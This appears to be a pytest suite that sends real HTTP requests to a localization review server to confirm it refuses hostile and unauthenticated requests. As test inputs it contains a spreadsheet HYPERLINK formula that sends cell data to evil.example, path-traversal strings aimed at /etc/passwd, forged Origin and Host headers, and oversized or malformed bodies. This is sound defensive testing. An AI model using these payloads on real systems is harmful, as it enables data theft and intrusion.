"""The review server against hostile and unauthenticated requests (issue 20: defects 1, 2, 3, 9, 12 and
"reviewers are people"): real HTTP to the real server (uvicorn) on 127.0.0.1. The market folders are the
small fakes of test_review_market (the re-render is the one stage faked; the server is under test)."""

from __future__ import annotations

import csv
import itertools
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner
from sqlalchemy import insert

from localize.apps.review import ReviewStore, create_app, export, sign_off
from localize.apps.review.store import line_reviews
from tests.unit.test_review_market import _market, _render

EVIL = "http://evil.example"


@dataclass
class Server:
    base: str
    port: int
    out: Path
    store: ReviewStore
    tokens: dict[str, str]  # name -> token
    app: object

    def client(self, token: str | None = None, headers: dict[str, str] | None = None) -> httpx.Client:
        auth = {"Authorization": f"Bearer {token}"} if token else {}
        return httpx.Client(base_url=self.base, headers={**auth, **(headers or {})}, timeout=30)

    def signed_in(self, name: str) -> httpx.Client:
        """A browser-like client: signed in with a cookie, the CSRF token in its headers."""
        client = self.client(headers={"Origin": self.base})
        r = client.post("/api/login", json={"token": self.tokens[name]})
        assert r.status_code == 200, r.text
        client.headers["X-CSRF-Token"] = r.json()["csrf"]
        return client

    def history(self, market: str = "en-US") -> list:
        return self.store.history("ep01", market)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    import uvicorn

    out = tmp_path / "out"
    for market in ("en-US", "pt-BR"):
        _market(out, market=market)
    store = ReviewStore.for_out(out)
    tokens = {}
    for name, markets, lead in (("ana", ["en-US"], False), ("lea", ["en-US", "pt-BR"], True), ("bo", ["pt-BR"], False)):
        tokens[name] = store.add_reviewer(name, markets, lead=lead)[1]
    port = _free_port()
    app = create_app(out, store=store, render=_render)
    srv = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", proxy_headers=False))
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not srv.started:
        assert time.monotonic() < deadline, "the review server did not start"
        time.sleep(0.05)
    yield Server(f"http://127.0.0.1:{port}", port, out, store, tokens, app)
    srv.should_exit = True
    thread.join(10)
    store.close()


# -- defect 1: cross-site writes, DNS rebinding ------------------------------------------------------

def test_a_cross_site_text_plain_post_is_refused_and_stores_nothing(server: Server) -> None:
    """The issue's curl: Origin evil.example, text/plain, a JSON body; answered 200 and stored before."""
    with closing(server.signed_in("ana")) as browser:  # even with the victim's cookie and CSRF token in the jar
        r = browser.post("/api/line/L001/ep01/en-US", content=b'{"action":"issue","note":"y"}',
                         headers={"Origin": EVIL, "Content-Type": "text/plain"})
        assert r.status_code == 403
        r = browser.post("/api/line/L001/ep01/en-US", json={"action": "issue", "note": "y"},
                         headers={"Origin": EVIL})
        assert r.status_code == 403
        r = browser.post("/api/line/L001/ep01/en-US", json={"action": "issue", "note": "y"},
                         headers={"Sec-Fetch-Site": "cross-site"})
        assert r.status_code == 403
    assert server.history() == []


def test_a_write_without_the_csrf_token_is_refused(server: Server) -> None:
    with closing(server.signed_in("ana")) as browser:
        del browser.headers["X-CSRF-Token"]
        assert browser.post("/api/line/L001/ep01/en-US", json={"action": "approve"}).status_code == 403
        browser.headers["X-CSRF-Token"] = "guessed"
        assert browser.post("/api/line/L001/ep01/en-US", json={"action": "approve"}).status_code == 403
    assert server.history() == []


def test_dns_rebinding_a_foreign_host_is_refused(server: Server) -> None:
    """A page on evil.example rebinds its name to 127.0.0.1: the browser then sends Host: evil.example."""
    with server.client(server.tokens["ana"]) as client:
        for host in (f"evil.example:{server.port}", "evil.example", "127.0.0.1.evil.example", ""):
            assert client.get("/api/markets", headers={"Host": host}).status_code == 421, host
        r = client.post("/api/line/L001/ep01/en-US", json={"action": "approve"},
                        headers={"Host": f"evil.example:{server.port}"})
        assert r.status_code == 421
        assert client.get("/api/markets", headers={"Host": f"localhost:{server.port}"}).status_code == 200
    assert server.history() == []


# -- reviewers are people ----------------------------------------------------------------------------

ENDPOINTS = [("GET", "/api/markets"), ("GET", "/api/session"), ("GET", "/api/market/ep01/en-US"),
             ("GET", "/api/job/ep01/en-US"), ("GET", "/api/peaks/ep01/en-US"),
             ("GET", "/media/ep01/en-US/video.mp4"), ("GET", "/media/ep01/en-US/subtitles.vtt"),
             ("POST", "/api/line/L001/ep01/en-US"), ("POST", "/api/signoff/ep01/en-US"), ("POST", "/api/logout")]


def test_without_a_token_nothing_is_read_or_written(server: Server) -> None:
    with server.client() as anon:
        for method, path in ENDPOINTS:
            r = anon.request(method, path, json={"action": "approve"} if method == "POST" else None)
            assert r.status_code == 401, (method, path, r.status_code)
        page = anon.get("/review/ep01/en-US")
        assert page.status_code == 303 and page.headers["location"].startswith("/login")
        assert anon.post("/api/login", json={"token": "lzr_000000000000_" + "x" * 43}).status_code == 401
    assert server.history() == [] and server.store.signoff("ep01", "en-US") is None


def test_each_reviewer_reads_and_writes_only_their_markets_and_is_recorded_as_themselves(server: Server) -> None:
    with server.client(server.tokens["ana"]) as ana:
        assert [m["market"] for m in ana.get("/api/markets").json()["markets"]] == ["en-US"]
        assert ana.get("/api/market/ep01/en-US").status_code == 200
        for path in ("/api/market/ep01/pt-BR", "/media/ep01/pt-BR/video.mp4", "/review/ep01/pt-BR"):
            assert ana.get(path).status_code == 403, path
        assert ana.post("/api/line/L001/ep01/pt-BR", json={"action": "approve"}).status_code == 403
        r = ana.post("/api/line/L001/ep01/en-US", json={"action": "approve", "reviewer": "mallory"})
        assert r.status_code == 200 and r.json()["review"]["reviewer"] == "ana"
        # not a lead: cannot sign off
        assert ana.post("/api/signoff/ep01/en-US", json={}).status_code == 403
    assert [(h.line_id, h.reviewer) for h in server.history()] == [("L001", "ana")]
    assert server.history("pt-BR") == []
    with closing(server.signed_in("lea")) as lea:  # a lead, in a browser session
        r = lea.post("/api/signoff/ep01/en-US", json={"reviewer": "mallory"})
        assert r.status_code == 200 and r.json()["reviewer"] == "lea"
        assert lea.get("/api/session").json()["lead"] is True
    assert server.store.signoff("ep01", "en-US").reviewer == "lea"


def test_tokens_are_stored_hashed_and_revocation_ends_sessions(server: Server) -> None:
    raw = b"".join(p.read_bytes() for p in server.out.glob("localize.db*"))  # the file and its WAL
    assert b"scrypt$" in raw  # the hashes are there
    for token in server.tokens.values():
        assert token.encode() not in raw and token.split("_", 2)[2].encode() not in raw
    browser = server.signed_in("bo")
    assert browser.get("/api/market/ep01/pt-BR").status_code == 200
    assert server.store.revoke_reviewer("bo") == 1
    assert browser.get("/api/market/ep01/pt-BR").status_code == 401
    with server.client(server.tokens["bo"]) as bo:
        assert bo.get("/api/markets").status_code == 401
    browser.close()


def test_security_headers_on_every_response(server: Server) -> None:
    with server.client(server.tokens["ana"]) as client:
        for path in ("/", "/login", "/static/review.js", "/api/markets", "/api/market/ep01/xx-XX",
                     "/review/ep01/en-US"):
            h = client.get(path).headers
            assert "frame-ancestors 'none'" in h["content-security-policy"], path
            assert "script-src 'self'" in h["content-security-policy"]
            assert h["x-content-type-options"] == "nosniff" and h["referrer-policy"] == "no-referrer", path
        assert client.get("/api/markets").headers["cache-control"] == "no-store"
    pages = Path(create_app.__code__.co_filename).parent / "static"
    for html in pages.glob("*.html"):  # the CSP forbids inline scripts and styles: none may be left
        text = html.read_text(encoding="utf-8")
        assert "style=" not in text and "<script>" not in text, html.name


def test_cookie_is_httponly_samesite_and_secure_behind_https(tmp_path: Path) -> None:
    from starlette.testclient import TestClient

    _market(tmp_path)
    with ReviewStore.for_out(tmp_path) as store:
        token = store.add_reviewer("ana", ["en-US"])[1]
        app = create_app(tmp_path, store=store, render=_render, public_url="https://review.example.com")
        with TestClient(app, base_url="https://review.example.com") as client:
            r = client.post("/api/login", json={"token": token}, headers={"Origin": "https://review.example.com"})
            cookie = r.headers["set-cookie"].lower()
            assert r.status_code == 200 and "httponly" in cookie and "samesite=strict" in cookie and "secure" in cookie
            assert "max-age=31536000" in r.headers["strict-transport-security"]
            # the public host is accepted; another is not
            assert client.get("/api/markets", headers={"Host": "other.example.com"}).status_code == 421


# -- defect 2: beyond loopback only with tokens ------------------------------------------------------

def test_serve_beyond_loopback_without_tokens_is_refused(tmp_path: Path) -> None:
    from localize.apps.cli import main

    _market(tmp_path)
    port = _free_port()
    runner = CliRunner()
    for args, says in ((["--host", "0.0.0.0", "--no-auth"], "--no-auth serves this machine only"),
                       (["--host", "0.0.0.0"], "needs --public-url"),
                       (["--host", "0.0.0.0", "--public-url", "https://r.example"], "no reviewer can sign in"),
                       (["--host", "127.0.0.1"], "no reviewer can sign in"),
                       (["--host", "::", "--no-auth"], "--no-auth serves this machine only")):
        result = runner.invoke(main, ["serve", str(tmp_path), "--port", str(port), *args])
        assert result.exit_code == 2 and says in result.output, (args, result.output)
        with socket.socket() as s:  # and nothing listens
            assert s.connect_ex(("127.0.0.1", port)) != 0


def test_reviewer_commands(tmp_path: Path) -> None:
    from localize.apps.cli import main

    runner = CliRunner()
    added = runner.invoke(main, ["reviewer", "add", "Ana QA", "--markets", "en-US,pt-BR", "--lead",
                                 "--out", str(tmp_path)])
    assert added.exit_code == 0, added.output
    token = added.output.split("token (shown once; send it privately): ")[1].split()[0]
    with ReviewStore.for_out(tmp_path) as store:
        who = store.authenticate(token)
        assert who is not None and who.name == "Ana QA" and who.markets == ("en-US", "pt-BR") and who.lead
        assert store.authenticate(token[:-1] + ("A" if token[-1] != "A" else "B")) is None
    listed = runner.invoke(main, ["reviewer", "list", "--out", str(tmp_path)])
    assert "Ana QA\ten-US,pt-BR\tlead" in listed.output and token not in listed.output
    again = runner.invoke(main, ["reviewer", "add", "Ana QA", "--markets", "en-US", "--out", str(tmp_path)])
    assert again.exit_code == 2 and "exists" in again.output
    assert runner.invoke(main, ["reviewer", "revoke", "Ana QA", "--out", str(tmp_path)]).exit_code == 0
    with ReviewStore.for_out(tmp_path) as store:
        assert store.authenticate(token) is None
    assert runner.invoke(main, ["reviewer", "revoke", "Ana QA", "--out", str(tmp_path)]).exit_code == 2
    assert runner.invoke(main, ["reviewer", "list"]).exit_code == 2  # no database named


# -- defect 3: body size, and what GET returns ---------------------------------------------------------

def test_a_10_mb_body_is_refused_and_get_stays_small(server: Server) -> None:
    huge = "x" * 10_000_000
    with server.client(server.tokens["ana"]) as ana:
        r = ana.post("/api/line/L001/ep01/en-US", json={"action": "issue", "note": huge})
        assert r.status_code == 413
        # chunked, no Content-Length: counted as it arrives
        r = ana.post("/api/line/L001/ep01/en-US", content=iter([b'{"action":"issue","note":"', huge.encode(), b'"}']),
                     headers={"Content-Type": "application/json"})
        assert r.status_code == 413
        # under the body limit but over the field limit
        r = ana.post("/api/line/L001/ep01/en-US", json={"action": "issue", "note": "x" * 5000})
        assert r.status_code == 400 and "at most" in r.json()["error"]
        assert server.history() == []
        # a row an older, unlimited version stored: GET returns it cut
        with server.store._tx() as conn:
            for _ in range(50):
                conn.execute(insert(line_reviews).values(
                    episode="ep01", market="en-US", line_id="L001", source_text="hola", target_text="hello",
                    voice="", status="issue", note=huge[:1_000_000], reviewer="old", at=datetime.now(UTC)))
        r = ana.get("/api/market/ep01/en-US")
        assert r.status_code == 200 and len(r.content) < 200_000, len(r.content)


# -- defect 9: formula injection in qa_summary.csv -----------------------------------------------------

def test_qa_summary_csv_escapes_formulas(tmp_path: Path) -> None:
    folder = _market(tmp_path / "out")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with ReviewStore.for_out(tmp_path / "out") as store:
        sign_off(folder, store, reviewer=evil)
        result = export(tmp_path / "out", tmp_path / "ship", store=store)
    rows = list(csv.DictReader(Path(result.summary_csv).read_text(encoding="utf-8").splitlines()))
    assert rows[0]["signed_off_by"] == "'" + evil
    assert rows[0]["true_peak_dbtp"] == "-2.0"  # numbers stay numbers
    for cell in itertools.chain.from_iterable(r.values() for r in rows):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    from localize.apps.review.export import _cell

    assert [_cell(v) for v in ("-cmd", "+1", "@SUM(A1)", "\tx", "\rx", "ana", -1.5)] == [
        "'-cmd", "'+1", "'@SUM(A1)", "'\tx", "'\rx", "ana", -1.5]


# -- defect 12: %00 in a URL --------------------------------------------------------------------------

def test_nul_in_a_review_url_is_a_client_error_not_a_500(server: Server) -> None:
    with server.client(server.tokens["lea"]) as lea:
        for path in ("/api/market/ep01%00/en-US", "/api/market/ep01/en-US%00", "/review/ep01%00/en-US",
                     "/media/ep01/en-US%00/video.mp4", "/api/job/%00", "/static/review.js%00", "/%00"):
            assert lea.get(path).status_code in (400, 404), path
        r = lea.post("/api/line/L00%001/ep01/en-US", json={"action": "approve"})
        assert r.status_code in (400, 404)
    assert server.history() == []


# -- the hostile-request campaign ----------------------------------------------------------------------

BODIES = [b"", b"not json", b"{", b"[]", b"null", b'"x"', b"1e999999", b'{"action": 5}', b'{"action": null}',
          b'{"action": ["approve"]}', b'{"action": "approve", "text": {"a": 1}}', b'{"action": "delete"}',
          b'{"action": "edit", "text": ""}', b'{"action": "issue", "note": "\\u0000"}',
          b'{"action": "approve", "voice": 1}',
          b'{"token": 1}', b'{"token": "' + b"A" * 5000 + b'"}', b"\xff\xfe\x00", b'{"a":' * 5000,
          b'{"action": "issue", "note": "' + b"x" * 70_000 + b'"}']
PATHS = ["ep01/en-US", "ep01/pt-BR", "ep01/xx-XX", "../ep01/en-US", "ep01/../../../etc/passwd", "%2e%2e/%2e%2e/etc",
         "ep01%00/en-US", "ep01/en-US%00", "%00", "ep01//en-US", "ep01/en-US/..", ".", "a" * 5000, "ep01/%ff%fe"]
TOKENS = [None, "", "lzr_", "lzr_x_y", "lzr_000000000000_" + "A" * 43, "Basic YW5hOmFuYQ==", "\u00e9" * 30]


def test_hostile_request_campaign_over_every_endpoint(server: Server) -> None:
    """Malformed JSON, wrong types, huge bodies, bad tokens, wrong market, path tricks, %00: never a 5xx, and
    nothing is written except by the authorized reviewer on their own market."""
    ana = server.tokens["ana"]
    tried: list[tuple[str, str, int]] = []
    lines_before = len(server.history()) + len(server.history("pt-BR"))
    with server.client() as client:
        def send(method: str, url: str, *, token: str | None, body: bytes | None = None, **headers: str) -> int:
            h: dict[str, str | bytes] = dict(headers)
            if token is not None:
                h["Authorization"] = (token if token.startswith("Basic") else f"Bearer {token}").encode()
            if body is not None:
                h.setdefault("Content-Type", "application/json")
            try:
                status = client.request(method, url, content=body, headers=h).status_code
            except httpx.LocalProtocolError:  # the client itself refuses to send it (a header httpx will not encode)
                status = 0
            tried.append((method, url, status))
            assert status < 500, (method, url, token, body[:60] if body else body, status)
            return status

        gets = ["/api/market/{k}", "/api/peaks/{k}", "/api/job/{k}", "/review/{k}", "/media/{k}/video.mp4",
                "/media/{k}/subtitles.vtt"]
        posts = ["/api/line/L001/{k}", "/api/line/%00/{k}", "/api/line/" + "L" * 300 + "/{k}", "/api/signoff/{k}"]
        for k in PATHS:  # path tricks with a valid token: only ep01/en-US is ana's
            for g in gets:
                status = send("GET", g.format(k=k), token=ana)
                assert status != 200 or k in ("ep01/en-US", "ep01//en-US"), (g, k)
            for p in posts:
                send("POST", p.format(k=k), token=ana, body=b'{"action": "issue", "note": "campaign"}')
        for token in TOKENS:  # bad tokens on every endpoint
            for method, path in ENDPOINTS:
                status = send(method, path, token=token, body=b"{}" if method == "POST" else None)
                assert status in (0, 401), (method, path, token, status)
            send("POST", "/api/login", token=None, body=f'{{"token": "{token}"}}'.encode())
        for body in BODIES:  # malformed and hostile bodies on every write
            for path in ("/api/line/L001/ep01/en-US", "/api/signoff/ep01/en-US", "/api/login", "/api/logout"):
                send("POST", path, token=ana, body=body)
        for path in ("/api/line/L001/ep01/en-US", "/api/signoff/ep01/en-US", "/api/login"):  # wrong transport
            send("POST", path, token=ana, body=b'{"action": "approve"}', **{"Content-Type": "text/plain"})
            send("POST", path, token=ana, body=b'{"action": "approve"}', Origin=EVIL)
            send("POST", path, token=ana, body=b'{"action": "approve"}', **{"Sec-Fetch-Site": "cross-site"})
            send("POST", path, token=ana, body=b'{"action": "approve"}', Host="evil.example")
            send("POST", path, token=ana, body=b"x" * 2_000_000)
            send("PUT", path, token=ana, body=b"{}")
            send("DELETE", path, token=ana)
        for n in ("-1", "0", "abc", "1e9", "99999999999999999999", "%00"):
            send("GET", f"/api/peaks/ep01/en-US?n={n}", token=ana)
    written = [h for h in server.history() + server.history("pt-BR")]
    assert len(written) >= lines_before
    assert all(h.reviewer == "ana" and h.market == "en-US" for h in written), written
    assert server.store.signoff("ep01", "en-US") is None  # ana is no lead
    print(f"\nhostile-request campaign: {len(tried)} cases, "
          f"{sum(1 for *_, s in tried if s >= 500)} server errors")
    assert len(tried) >= 300
